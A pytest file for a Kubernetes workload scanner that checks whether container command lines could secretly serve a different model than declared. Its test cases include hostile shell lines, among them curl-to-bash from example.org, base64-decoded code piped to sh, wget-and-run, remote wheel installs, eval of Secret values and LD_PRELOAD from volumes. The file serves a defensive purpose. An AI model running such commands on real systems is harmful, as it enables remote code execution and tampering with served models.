"""What a server's command line can do so that another model is served than the one that is seen."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from mlgate.workloads.extract import Extraction

Json = dict[str, Any]
Read = Callable[..., Extraction]
PodOf = Callable[..., Json]

VLLM = "vllm/vllm-openai:v1"
CLAIM: Json = {"name": "d", "persistentVolumeClaim": {"claimName": "data"}}
SCRATCH: Json = {"name": "d", "emptyDir": {}}
MAP: Json = {"name": "d", "configMap": {"name": "m"}}
HARMLESS: Json = {"name": "MODEL_ID", "value": "good/harmless"}
SECRET: Json = {"name": "X", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}


def sh(text: str, **fields: Any) -> Json:
    return {"command": ["sh", "-c", text], **fields}


def py(text: str, **fields: Any) -> Json:
    return {"command": ["python3", "-c", text], **fields}


def at(target: str, **fields: Any) -> Json:
    return {"volumeMounts": [{"name": "d", "mountPath": target, **fields}]}


def told(read: Read, obj: Json) -> list[tuple[str, str]]:
    workload = read(obj).workload
    assert workload is not None
    return [(item.path.removeprefix("spec.containers[0]."), item.message) for item in workload.problems]


PIPED = "runs what another command prints, which the reader cannot follow"
NAMED = "runs a program that is named elsewhere"
ARGUMENTS = "takes arguments from elsewhere, which the reader cannot know"
INSTALLED = "installs code from a place of its own, which can replace the server"
MADE = "names what the command line itself may make, so that nobody can tell what lies there"
PROGRAM = "runs a program from where the reader cannot look"
CONFIGURATION = "takes a configuration from where the reader cannot look"
FROM_VOLUME = "takes code from a volume, which the reader cannot look into"
FOREIGN = "runs code that the reader does not know how to read"
ALIAS = "gives a program another name, which the reader does not follow"

HIDDEN: dict[str, tuple[Json, list[Json], str]] = {
    "a decoded text": (sh("echo dmxsbQo= | base64 -d | sh"), [], PIPED),
    "a fetched script": (sh("curl -s https://example.org/run | bash -s"), [], PIPED),
    "a substituted process": (sh("bash <(curl -s https://example.org/run)"), [], PIPED),
    "a file on the input": (sh("sh < /srv/run"), [], PIPED),
    "a text on the input": (sh("sh <<< $X"), [], PIPED),
    "words of another command": (sh("echo evil/m | xargs vllm serve"), [], PIPED),
    "a shell behind another command": (sh("echo evil/m | xargs -n1 sh -c x"), [], PIPED),
    "another name of a program": (sh("alias v='vllm serve'; v evil/m"), [], ALIAS),
    "a program that a file names": (sh("$(cat /etc/m) serve evil/m"), [], NAMED),
    "the same in the older form": (sh("`cat /etc/m` serve evil/m"), [], NAMED),
    "a program in a Secret": (sh("$X serve evil/m", env=[HARMLESS, SECRET]), [], NAMED),
    "arguments that are set": (sh('set -- /srv/x; "$@"', env=[HARMLESS]), [], NAMED),
    "a substituted file": (sh("source <(curl -s http://x)", env=[HARMLESS]), [], PIPED),
    "code of Python on the input": (sh("curl -s http://x | python3 -", env=[HARMLESS]), [], PIPED),
    "code of Python that is fetched": (sh("curl -s http://x | python3", env=[HARMLESS]), [], PIPED),
    "a file that is open": (sh("curl -s http://x | . /dev/stdin", env=[HARMLESS]), [], PIPED),
    "a command of a known program that is computed": (
        sh("vllm $(cat /x) & vllm serve good/m"),
        [],
        ARGUMENTS,
    ),
    "a program beside the model": (sh("/d/x & vllm serve /d/m", **at("/d")), [CLAIM], PROGRAM),
    "a list of what is read": (sh('mapfile -t A < /x; vllm serve good/m "${A[@]}"'), [], ARGUMENTS),
    "a line in a Secret": (sh('eval "$X"', env=[HARMLESS, SECRET]), [], NAMED),
    "arguments in a file": (sh("vllm serve good/m $(cat /etc/m)"), [], ARGUMENTS),
    "arguments in a file, in the older form": (sh("vllm serve good/m `cat /etc/m`"), [], ARGUMENTS),
    "arguments in a Secret": (sh("vllm serve good/m $X", env=[SECRET]), [], ARGUMENTS),
    "arguments that are read": (sh("read -r A < /x; vllm serve good/m $A"), [], ARGUMENTS),
    "arguments of any Secret": (
        sh("vllm serve good/m ${A}", envFrom=[{"secretRef": {"name": "s"}}]),
        [],
        ARGUMENTS,
    ),
    "a wheel of the author's": (
        sh("pip install https://example.org/v.whl && vllm serve good/m"),
        [],
        INSTALLED,
    ),
    "a wheel in a volume": (
        sh("python3 -m pip install /d/v.whl; vllm serve good/m", **at("/d")),
        [CLAIM],
        INSTALLED,
    ),
    "an index of the author's": (sh("uv pip install -i=http://x v; vllm serve good/m"), [], INSTALLED),
    "code that is edited": (
        sh("sed -i s/a/b/ /usr/lib/python3/dist-packages/vllm/x.py; vllm serve good/m"),
        [],
        "changes the code of programs",
    ),
    "a program that is replaced": (
        sh("curl -o /usr/local/bin/vllm https://example.org/v; vllm serve good/m"),
        [],
        "changes the code of programs",
    ),
    "a program in a claim": ({"command": ["/d/start.sh"], "env": [HARMLESS], **at("/d")}, [CLAIM], PROGRAM),
    "a program another container writes": (
        {"command": ["bash", "-x", "/d/start.sh"], "env": [HARMLESS], **at("/d")},
        [SCRATCH],
        PROGRAM,
    ),
    "a program in the folder it goes to": (
        sh("cd /d && ./start.sh", env=[{"name": "MODEL_ID", "value": "s3://b/m"}], **at("/d")),
        [CLAIM],
        PROGRAM,
    ),
    "a file read into the shell": (sh(". /d/env; vllm serve good/m", **at("/d")), [CLAIM], PROGRAM),
    "a start file of the shell": (
        {"command": ["bash", "--rcfile", "/d/rc", "-ic", "vllm serve good/m"], **at("/d")},
        [CLAIM],
        PROGRAM,
    ),
    "a program that is fetched": (
        sh("wget https://example.org/r -O /tmp/r; sh /tmp/r", env=[HARMLESS]),
        [],
        PROGRAM,
    ),
    "a program of Python in a claim": (
        {"command": ["python3", "-u", "-X", "dev", "/d/serve.py"], "env": [HARMLESS], **at("/d")},
        [CLAIM],
        PROGRAM,
    ),
    "a plugin": (
        {"args": ["--model", "good/m", "--tool-parser-plugin", "/d/p.py"], **at("/d")},
        [CLAIM],
        PROGRAM,
    ),
    "a program behind a value of a wrapper": (
        sh("sudo -u root /d/start.sh", env=[HARMLESS], **at("/d")),
        [CLAIM],
        PROGRAM,
    ),
    "a program behind a lock": (sh("flock l sh /d/start.sh", env=[HARMLESS], **at("/d")), [CLAIM], PROGRAM),
    "code of another language": (sh("perl -e 'exec qw(x)'", env=[HARMLESS]), [], FOREIGN),
    "a command in a pattern": (sh("awk 'BEGIN{system(x)}'", env=[HARMLESS]), [], FOREIGN),
    "a command for a file that is found": (sh("find /d -exec {} +", env=[HARMLESS]), [], FOREIGN),
    "a configuration it writes": (
        sh("cat > /tmp/c.yaml <<EOF\nmodel: evil/m\nEOF\nvllm serve good/m --config /tmp/c.yaml"),
        [],
        CONFIGURATION,
    ),
    "a configuration it fetches": (
        sh("curl -o /srv/c.yaml https://example.org/c; vllm serve good/m --config /srv/c.yaml"),
        [],
        CONFIGURATION,
    ),
    "a folder called like a repository": (sh("mkdir good; ln -s /x good/m; vllm serve good/m"), [], MADE),
    "a folder in a folder": (sh("cp -r /x /srv/good/m; cd /srv; vllm serve good/m"), [], MADE),
    "an archive of anything": (sh("tar xf /x.tgz; vllm serve good/m"), [], MADE),
    "code of Python that writes": (
        sh('python3 -c \'import os; os.symlink("/x", "good")\'; vllm serve good/m'),
        [],
        MADE,
    ),
    "a folder of the image that is filled": (sh("cp -r /x /models/m; vllm serve /models/m"), [], MADE),
    "code in a variable for Python": (
        {"args": ["--model", "good/m"], "env": [{"name": "PYTHONPATH", "value": "/app:/d"}], **at("/d")},
        [CLAIM],
        FROM_VOLUME,
    ),
    "a library that is put first": (
        {"args": ["--model", "good/m"], "env": [{"name": "LD_PRELOAD", "value": "/d/x.so"}], **at("/d")},
        [MAP],
        FROM_VOLUME,
    ),
    "the same on the command line": (sh("PYTHONPATH=/d vllm serve good/m", **at("/d")), [CLAIM], FROM_VOLUME),
    "a module that is mounted over": (
        {"args": ["--model", "good/m"], **at("/usr/lib/python3.12/site-packages/vllm/x.py", subPath="x.py")},
        [MAP],
        "mounts d over the code of programs",
    ),
    "a program that is mounted over": (
        {"args": ["--model", "good/m"], **at("/usr/local/bin")},
        [CLAIM],
        "mounts d over the code of programs",
    ),
    "modules of the working folder": (
        {
            "command": ["python3", "-m", "vllm.entrypoints.openai.api_server"],
            "workingDir": "/d",
            "env": [HARMLESS],
        }
        | at("/d"),
        [MAP],
        "runs modules of Python in /d, where d can replace them",
    ),
    "code that is computed": (
        py("exec(__import__('base64').b64decode('eA=='))", env=[HARMLESS]),
        [],
        "calls exec with what the reader cannot know",
    ),
    "a program Python computes": (
        py("import subprocess\nsubprocess.run(x)", env=[HARMLESS]),
        [],
        "calls run with what the reader cannot know",
    ),
    "a function Python computes": (
        py("import os\ngetattr(os, 'sys' + 'tem')('x')", env=[HARMLESS]),
        [],
        "calls getattr with what the reader cannot know",
    ),
}


@pytest.mark.parametrize(("container", "volumes", "message"), HIDDEN.values(), ids=HIDDEN.keys())
def test_bypass_15_what_cannot_be_followed_beside_a_server_is_told(
    read: Read, pod_of: PodOf, container: Json, volumes: list[Json], message: str
) -> None:
    obj = pod_of({"volumes": volumes} if volumes else None, image=VLLM, **container)

    assert message in [text for _, text in told(read, obj)]


def test_it_is_told_where_it_stands(read: Read, pod_of: PodOf) -> None:
    obj = pod_of(image=VLLM, **sh("curl https://example.org | sh", env=[HARMLESS]))

    assert told(read, obj) == [("command[2]", PIPED)]


PLAIN: dict[str, tuple[Json, list[Json]]] = {
    "a pipe to another program": (sh("vllm serve good/m 2>&1 | tee /var/log/vllm"), []),
    "either of two commands": (sh("test -d /x || sh -c 'vllm serve good/m'"), []),
    "a script of the image": ({"command": ["/app/start.sh"], "env": [HARMLESS]}, []),
    "a number that is counted": (sh("vllm serve good/m --tensor-parallel-size $(nvidia-smi -L | wc -l)"), []),
    "arithmetic": (sh("vllm serve good/m --port $((8000 + 1)) -x $((1))"), []),
    "an argument that nothing sets": (sh("vllm serve good/m $EXTRA"), []),
    "arguments it sets itself": (sh('A=""; if x; then A="--port 1"; fi; vllm serve good/m $A'), []),
    "its own arguments": (
        {"command": ["sh", "-c", 'exec "$@"', "--"], "args": ["vllm", "serve", "good/m"]},
        [],
    ),
    "the start of Ray that its operator sets": (
        sh('eval "$KUBERAY_GEN_RAY_START_CMD"; vllm serve good/m'),
        [],
    ),
    "what is found and removed": (
        sh("find /d -name x -exec rm {} +; awk '{print $1}' /x; vllm serve good/m"),
        [],
    ),
    "a user that serves": (sh("gosu app vllm serve /d/m", **at("/d")), [CLAIM]),
    "a package of the index": (sh("pip install --quiet vllm==0.9 && vllm serve good/m"), []),
    "a model that is fetched where it is served": (
        sh("git clone https://huggingface.co/good/m /models/m && vllm serve /models/m"),
        [],
    ),
    "a folder for a cache": (sh("mkdir -p /root/.cache; vllm serve good/m"), []),
    "a list that is written out": (
        sh('A=(--port 8000); A+=(--dtype auto); exec vllm serve good/m "${A[@]}"'),
        [],
    ),
    "a configuration beside its model": (
        {"args": ["--model", "/d/m", "--config", "/d/c.yaml"], **at("/d")},
        [CLAIM],
    ),
    "an answer that Python reads": (sh("curl -s http://x | python3 -c 'print(1)'; vllm serve good/m"), []),
    "a list of words": (sh("L=(); L+=($A); vllm serve good/m"), []),
    "a comment with a full stop": (
        sh("# as told (in x).\n# There. Older ones don\nvllm serve good/m", **at("/d")),
        [CLAIM],
    ),
    "drivers of the node": (
        {
            "args": ["--model", "good/m"],
            "env": [{"name": "LD_LIBRARY_PATH", "value": "/usr/local/nvidia/lib64"}],
            **at("/usr/local/nvidia"),
        },
        [{"name": "d", "hostPath": {"path": "/home/nvidia"}}],
    ),
    "a configuration of the image": ({"args": ["--model", "good/m", "--config", "/etc/vllm.yaml"]}, []),
    "a pattern that is compiled": (py("import re\nre.compile('x')\nmodel.eval()\nLLM('good/m')"), []),
    "a file that is read": (py("x = open('/x').read()\nLLM('good/m')"), []),
    "an edited file that is no configuration": (
        sh("sed -i 's/a .. //' /etc/hosts; vllm serve /models/m"),
        [],
    ),
}


@pytest.mark.parametrize(("container", "volumes"), PLAIN.values(), ids=PLAIN.keys())
def test_what_can_be_followed_is_not_held_up(
    read: Read, pod_of: PodOf, container: Json, volumes: list[Json]
) -> None:
    assert told(read, pod_of({"volumes": volumes} if volumes else None, image=VLLM, **container)) == []


@pytest.mark.parametrize(("container", "volumes", "message"), HIDDEN.values(), ids=HIDDEN.keys())
def test_a_program_that_serves_nothing_is_left_alone(
    read: Read, pod_of: PodOf, container: Json, volumes: list[Json], message: str
) -> None:
    harmless = {key: value for key, value in container.items() if key not in {"env", "envFrom"}}
    words = [text.replace("vllm serve", "nginx") for text in harmless.get("command", ["nginx"])]
    words = ["nginx" if "vllm" in text else text for text in words]
    obj = pod_of({"volumes": volumes} if volumes else None, **{**harmless, "command": words, "args": []})
    found = read(obj).workload

    assert message
    assert found is None or (found.problems == () and not found.serves_model)


MODELS: dict[str, tuple[Json, list[Json], list[str]]] = {
    "quotes of bash": (sh("vllm serve $'\\x65vil/m'"), [], ["hf://evil/m"]),
    "a program in them": (sh("$'\\x76ll\\155' serve $'evil\\u002fm'"), [], ["hf://evil/m"]),
    "a folder it goes to": (sh("cd /d && vllm serve good/m", **at("/d")), [CLAIM], ["pvc://data/good/m"]),
    "weights for a loader": (
        {"args": ["--model", "good/m", "--model-loader-extra-config", '{"tensorizer_uri": "s3://evil/m"}']},
        [],
        ["hf://good/m", "s3://evil/m"],
    ),
    "weights for a loader behind a dot": (
        {"args": ["--model", "good/m", "--model-loader-extra-config.tensorizer_uri=s3://evil/m"]},
        [],
        ["hf://good/m", "s3://evil/m"],
    ),
    "weights in a map within": (
        {"args": ["--model=good/m", '--model-loader-extra-config={"a": [{"dir": "/srv/m"}], "n": 1}']},
        [],
        ["hf://good/m", "image://vllm/vllm-openai:v1"],
    ),
    "weights in what is no map": (
        {"args": ["--model=good/m", "--model-loader-extra-config={s3://evil/m"]},
        [],
        ["hf://good/m", "{s3://evil/m"],
    ),
    "another hub": (
        {
            "args": ["--model", "good/m", "--revision", "v1"],
            "env": [{"name": "VLLM_USE_MODELSCOPE", "value": "True"}],
        },
        [],
        ["modelscope://good/m:v1"],
    ),
    "another hub that is switched off": (
        {"args": ["--model", "good/m"], "env": [{"name": "VLLM_USE_MODELSCOPE", "value": "False"}]},
        [],
        ["hf://good/m"],
    ),
    "an image over the cache of the hub": (
        {"args": ["--model", "good/m"], **at("/root/.cache/huggingface")},
        [{"name": "d", "image": {"reference": "evil.example/m:1"}}],
        ["hf://good/m", "oci://evil.example/m:1"],
    ),
    "a place that a variable settles": (
        {"args": ["--model", "/d/m"], "env": [{"name": "Z", "value": "z"}], **at("/d", subPathExpr="a/$(Z)")},
        [CLAIM],
        ["pvc://data/a/z/m"],
    ),
    "a volume above the working folder": (
        {"args": ["--model", "good/m"], "workingDir": "/d/w", **at("/d")},
        [CLAIM],
        ["pvc://data/w/good/m"],
    ),
    "what is fetched to where a model is named": (
        sh("git clone https://git.example.com/evil good/m; vllm serve good/m"),
        [],
        ["hf://good/m", "https://git.example.com/evil"],
    ),
    "what is fetched to the folder of a model": (
        sh("curl -o /models/m/w.bin https://example.org/w; vllm serve /models/m"),
        [],
        ["image://vllm/vllm-openai:v1", "https://example.org/w"],
    ),
    "flags that a variable may hold": (
        sh('A=""; A="--lora-modules a=evil/m"; vllm serve good/m $A'),
        [],
        ["hf://good/m", "hf://evil/m"],
    ),
    "a program that is an argument": (
        {"command": ["sh", "-c", "$0 serve evil/m"], "args": ["vllm"], "env": [HARMLESS]},
        [],
        ["hf://evil/m", "hf://good/harmless"],
    ),
    "a model that is an argument": (
        {"command": ["sh", "-c", 'exec vllm serve "${1}"', "x", "evil/m"]},
        [],
        ["hf://evil/m"],
    ),
    "a name in code": (py("m = 'evil' + '/m'\nLLM(model=m)"), [], ["hf://evil/m"]),
    "a variable in code": (
        py("import os\nLLM(os.environ['M'])", env=[{"name": "M", "value": "evil/m"}]),
        [],
        ["hf://evil/m"],
    ),
    "a variable with a default in code": (
        py("import os\nLLM(os.getenv('M', 'evil/m'))"),
        [],
        ["hf://evil/m"],
    ),
    "a computed name in code": (py("LLM(model=x())"), [], ["LLM(...)"]),
    "a command that code starts": (
        py("from subprocess import run as go\ngo(['vllm', 'serve', 'evil/m'])"),
        [],
        ["hf://evil/m"],
    ),
    "a command in the place of code": (
        py("import os\nos.execvp('vllm', ['vllm', 'serve', 'evil/m'])"),
        [],
        ["hf://evil/m"],
    ),
    "words of a command one by one": (
        py("import os\nos.execlp('vllm', 'vllm', 'serve', 'evil/m')"),
        [],
        ["hf://evil/m"],
    ),
    "a line for a shell": (py("import os as o\no.system('vllm serve evil/m')"), [], ["hf://evil/m"]),
}


@pytest.mark.parametrize(("container", "volumes", "expected"), MODELS.values(), ids=MODELS.keys())
def test_bypass_16_a_model_behind_a_detour_is_a_model(
    read: Read, pod_of: PodOf, container: Json, volumes: list[Json], expected: list[str]
) -> None:
    workload = read(pod_of({"volumes": volumes} if volumes else None, image=VLLM, **container)).workload

    assert workload is not None
    assert [model.uri for model in workload.models] == expected


@pytest.mark.parametrize(
    ("container", "expected"),
    [
        ({"args": ["serve", "owner/m"]}, ["hf://owner/m"]),
        ({"args": ["serve", "/srv/site"]}, []),
        ({"args": ["--model", "owner/m"], "env": [{"name": "OPENAI_BASE_URL", "value": "http://x"}]}, []),
        (
            {"args": ["--model", "s3://b/m"], "env": [{"name": "OPENAI_BASE_URL", "value": "http://x"}]},
            ["s3://b/m"],
        ),
        ({"args": ["--model", "http://x/m"], "env": [{"name": "OPENAI_BASE_URL", "value": "http://x"}]}, []),
    ],
)
def test_an_image_nobody_knows_that_is_told_a_model(
    read: Read, pod_of: PodOf, container: Json, expected: list[str]
) -> None:
    workload = read(pod_of(**container)).workload

    assert [model.uri for model in workload.models if workload] == expected if workload else not expected


def test_servers_that_only_lead_to_others_name_no_model(read: Read, pod_of: PodOf) -> None:
    image = "nvcr.io/nvidia/tensorrt-llm/release:1"
    words = ["trtllm-serve", "disaggregated", "-c", "/d/c.yaml"]
    obj = pod_of({"volumes": [MAP]}, image=image, args=words, **at("/d"))
    manifest = read(obj).manifest

    assert manifest is not None
    assert [(item.lookup.name, item.key) for item in manifest.named] == [("m", "c.yaml")]
    assert not any("disaggregated" in model.uri for model in manifest.models)
